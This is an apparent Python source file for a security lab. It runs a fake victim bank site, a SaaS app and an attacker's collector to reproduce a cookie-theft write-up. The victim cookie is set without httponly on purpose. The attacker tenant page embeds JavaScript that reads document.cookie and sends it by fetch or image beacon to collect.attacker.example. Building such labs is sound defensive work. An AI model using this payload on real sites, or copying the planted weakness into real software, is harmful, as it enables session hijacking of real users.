"""The origins of the world (DESIGN.md, "The world"): one aiohttp app per origin, by kind.

- victim: www.victim.example's site, with a login that sets a session cookie;
- saas: the SaaS provider's app, one page per tenant chosen by the request's host; the
  attacker's tenant page carries the payload that sends the cookie to the collector;
- collector: the attacker's collector, recording what the payload sends.

Every response of every origin carries `X-Lab-Origin: <origin name>`: the oracle reads
it to tell which origin answered. Handlers serve pre-rendered bytes where they can,
because they are benchmarked behind the edge.
"""
from __future__ import annotations

import html
import ipaddress
import json
import secrets
import time
from collections import deque
from typing import Any

from aiohttp import web

from lab.binding import bind_error
from lab.serverlog import server_logger
from lab.events import Events
from lab.hostnorm import HostError, normalize
from lab.topology import Origin, World

ORIGIN_HEADER = "X-Lab-Origin"
# The edge may pass its trace id to the origin so `origin.hit` joins the client's trace.
TRACE_HEADER = "X-Lab-Trace"
COLLECT_MAX_ENTRIES = 1000
COLLECT_MAX_BYTES = 16 * 1024
MAX_SESSIONS = 10000

SERVER = "sni-lab origin"  # instead of aiohttp's Python/... aiohttp/... banner

ORIGIN_KEY = web.AppKey("origin", Origin)
COLLECTED_KEY = web.AppKey("collected", deque)
_HTML = "text/html"


def _page(title: str, body: str) -> bytes:
    return (f"<!doctype html><html><head><meta charset='utf-8'><title>{html.escape(title)}</title></head>"
            f"<body>{body}</body></html>").encode()


def _html(body: bytes, status: int = 200) -> web.Response:
    return web.Response(body=body, status=status, content_type=_HTML, charset="utf-8")


async def _health(request: web.Request) -> web.Response:
    origin = request.app[ORIGIN_KEY]
    return web.json_response({"ok": True, "origin": origin.name, "kind": origin.kind})


# --- victim -----------------------------------------------------------------------------

_VICTIM_HOME = _page("Victim Bank", "<h1>Victim Bank</h1><p>www.victim.example</p>"
                     "<p><a href='/login'>Log in</a> · <a href='/account'>My account</a></p>")
_LOGIN_FORM = ("<h1>Log in to Victim Bank</h1><form method='post' action='/login'>"
               "<input name='user' placeholder='user'> <input name='password' type='password' placeholder='password'>"
               " <button>Log in</button></form>")


def _victim_routes(app: web.Application) -> None:
    sessions: dict[str, str] = {}  # session token -> user; insertion order = age

    async def home(request: web.Request) -> web.Response:
        return _html(_VICTIM_HOME)

    async def login_form(request: web.Request) -> web.Response:
        return _html(_page("Log in", _LOGIN_FORM))

    async def login(request: web.Request) -> web.Response:
        form = await request.post()
        user, password = str(form.get("user", "")), str(form.get("password", ""))
        if not user or not password:
            return _html(_page("Log in", "<p>user and password are required</p>" + _LOGIN_FORM), 400)
        token = secrets.token_urlsafe(24)
        sessions[token] = user
        if len(sessions) > MAX_SESSIONS:  # bounded: benchmarks log in many times
            del sessions[next(iter(sessions))]
        resp = web.Response(status=303, headers={"Location": "/account"})
        # httponly=False ON PURPOSE: this is the lab's deliberate weakness. The payload
        # served in www.victim.example's name reads document.cookie and sends the session
        # to the collector, mirroring the cookie theft of the write-up.
        resp.set_cookie("session", token, path="/", httponly=False, samesite="Lax")
        return resp

    async def account(request: web.Request) -> web.Response:
        user = sessions.get(request.cookies.get("session", ""))
        if user is None:
            return _html(_page("Log in first", "<p>Not logged in. <a href='/login'>Log in</a></p>"), 401)
        return _html(_page("My account", f"<h1>My account</h1><p>Account holder: {html.escape(user)}</p>"
                                         "<p>Card: •••• •••• •••• 4242</p>"))

    app.router.add_get("/", home)
    app.router.add_get("/login", login_form)
    app.router.add_post("/login", login)
    app.router.add_get("/account", account)


# --- saas -------------------------------------------------------------------------------

def collector_urls(world: World) -> list[str]:
    """Where the payload sends what it steals, most likely to work in a browser first.

    The payload runs on an https page (the victim's name, via the edge). A browser blocks
    an http:// request from it as mixed content unless the target is potentially
    trustworthy, which a 127.0.0.0/8 literal is and collect.attacker.example is not; so
    a loopback collector is reached by address first, then by its lab DNS name.
    """
    collector = next((o for o in world.origins if o.kind == "collector"), None)
    if collector is None:
        return []
    by_name = [f"http://{r.name}:{collector.port}/collect" for r in world.records
               if r.type in ("A", "AAAA") and r.value in (f"origin:{collector.name}", collector.host)]
    addr = ipaddress.ip_address(collector.host)
    if addr.is_unspecified:  # bound to every address: only a name can reach it
        return by_name
    shown = f"[{addr}]" if addr.version == 6 else str(addr)
    by_ip = f"http://{shown}:{collector.port}/collect"
    return [by_ip] + by_name if addr.is_loopback or not by_name else by_name + [by_ip]


_PAYLOAD_JS = """
(async () => {
  const urls = %s;
  const body = JSON.stringify({cookie: document.cookie, origin: location.origin, href: location.href});
  for (const url of urls) {
    try { await fetch(url, {mode: "no-cors", method: "POST", body}); return; } catch (e) {}
  }
  // No fetch got through (blocked, or no fetch at all): fall back to an image beacon.
  if (urls.length) new Image().src = urls[0] + "?d=" + encodeURIComponent(body);
})();
"""


def _saas_routes(app: web.Application, origin: Origin, world: World) -> None:
    zones = [z.name for z in world.zones if z.origin == origin.name]
    own = _page(f"{origin.name} SaaS", f"<h1>SaaS application</h1><p>{html.escape(', '.join(zones) or origin.name)}"
                                       "</p><p>Tenants bring their own hostnames.</p>")
    # Pages are rendered once per tenant host: a request only looks one up.
    script = _PAYLOAD_JS % json.dumps(collector_urls(world)).replace("</", "<\\/")
    pages: dict[str, bytes] = {}
    for tenant in origin.tenants:
        for host in tenant.hosts:
            h = html.escape(host)
            if tenant.payload:
                pages[host] = _page(host, f"<h1>you are on {h}</h1><p>This page is the attacker's tenant "
                                          f"({html.escape(tenant.name)}), shown in {h}'s name.</p>"
                                          f"<script>{script}</script>")
            else:
                pages[host] = _page(host, f"<h1>{html.escape(tenant.name)}</h1><p>Welcome to {h}, "
                                          "a shop hosted on the SaaS app.</p>")

    async def home(request: web.Request) -> web.Response:
        try:  # the Host header as sent; request.host would fall back to a slow getfqdn()
            host = normalize(request.headers.get("Host", ""))
        except HostError:
            host = ""
        return _html(pages.get(host, own))

    app.router.add_get("/", home)


# --- collector --------------------------------------------------------------------------

_CORS = {"Access-Control-Allow-Origin": "*",
         "Access-Control-Allow-Methods": "GET, POST, OPTIONS",
         # Chrome's Private Network Access preflight asks for this one too.
         "Access-Control-Allow-Private-Network": "true",
         "Access-Control-Max-Age": "600"}


def _collector_routes(app: web.Application) -> None:
    collected: deque[dict[str, Any]] = deque(maxlen=COLLECT_MAX_ENTRIES)  # the last 1000
    app[COLLECTED_KEY] = collected

    def record(request: web.Request, method: str, body: str) -> None:
        try:
            data = json.loads(body)
        except ValueError:
            data = None
        collected.append({"time": time.time(), "source": request.remote, "method": method,
                          "origin": request.headers.get("Origin"), "referer": request.headers.get("Referer"),
                          "body": body, "data": data})

    async def collect_post(request: web.Request) -> web.Response:
        # app client_max_size makes read() answer 413 past COLLECT_MAX_BYTES.
        body = await request.read()
        record(request, "POST", body.decode("utf-8", "replace"))
        return web.json_response({"ok": True})

    async def collect_get(request: web.Request) -> web.Response:  # image beacon
        d = request.query.get("d", "")
        if len(d.encode()) > COLLECT_MAX_BYTES:
            raise web.HTTPRequestEntityTooLarge(COLLECT_MAX_BYTES, len(d.encode()))
        record(request, "GET", d)
        return web.Response(status=204)

    async def preflight(request: web.Request) -> web.Response:
        asked = request.headers.get("Access-Control-Request-Headers")
        return web.Response(status=204, headers={"Access-Control-Allow-Headers": asked} if asked else None)

    async def listing(request: web.Request) -> web.Response:
        return web.json_response(list(collected))

    app.router.add_post("/collect", collect_post)
    app.router.add_get("/collect", collect_get)
    app.router.add_route("OPTIONS", "/collect", preflight)
    app.router.add_get("/collected", listing)


# --- the apps ---------------------------------------------------------------------------

def build_app(origin: Origin, world: World, events: Events | None = None) -> web.Application:
    collector = origin.kind == "collector"
    app = web.Application(client_max_size=COLLECT_MAX_BYTES if collector else 1024 ** 2)
    app[ORIGIN_KEY] = origin
    stamp = {ORIGIN_HEADER: origin.name, **(_CORS if collector else {})}

    # on_response_prepare runs for every response the app sends, including the 404s,
    # 405s and 500s aiohttp makes itself, so no answer ever leaves unstamped.
    async def on_prepare(request: web.Request, response: web.StreamResponse) -> None:
        response.headers.update(stamp)
        response.headers["Server"] = SERVER
        if events is not None:
            events.emit("origin.hit", trace=request.headers.get(TRACE_HEADER), origin=origin.name,
                        method=request.method, host=request.headers.get("Host", ""), path=request.path,
                        status=response.status)

    app.on_response_prepare.append(on_prepare)
    app.router.add_get("/health", _health)
    if origin.kind == "victim":
        _victim_routes(app)
    elif origin.kind == "saas":
        _saas_routes(app, origin, world)
    elif collector:
        _collector_routes(app)
    return app


log = server_logger("lab.origins")


class Origins:
    """Runs every origin of the world on its own address."""

    def __init__(self, world: World, events: Events | None = None) -> None:
        self.world = world
        self.events = events
        self._runners: list[web.AppRunner] = []
        self._apps: list[web.Application] = []

    async def start(self) -> dict[str, tuple[str, int]]:
        if self._runners:
            raise RuntimeError("origins already started")
        self._apps = []
        bound: dict[str, tuple[str, int]] = {}
        world = self.world
        # Collectors first: the payload page needs the collector's bound port (port 0).
        for origin in sorted(world.origins, key=lambda o: o.kind != "collector"):
            origin = world.origin_by_name[origin.name]  # with the ports bound so far
            app = build_app(origin, world, self.events)
            runner = web.AppRunner(app, access_log=None, logger=log)
            await runner.setup()
            self._runners.append(runner)
            self._apps.append(app)
            try:  # backlog as the edge's: a burst of up to origin_max_connections new connections is accepted
                await web.TCPSite(runner, origin.host, origin.port, reuse_address=True, backlog=1024).start()
            except OSError as e:
                await self.stop()
                raise bind_error(f"origin {origin.name}", origin.host, origin.port, e) from None
            host, port = runner.addresses[0][:2]
            bound[origin.name] = (host, port)
            world = world.with_ports({origin.name: port})
        return bound

    async def stop(self) -> None:
        # The apps are kept: what the collector received stays readable after stop.
        runners, self._runners = self._runners, []
        for runner in runners:
            await runner.cleanup()

    @property
    def collected(self) -> list[dict[str, Any]]:
        return [entry for app in self._apps if COLLECTED_KEY in app for entry in app[COLLECTED_KEY]]



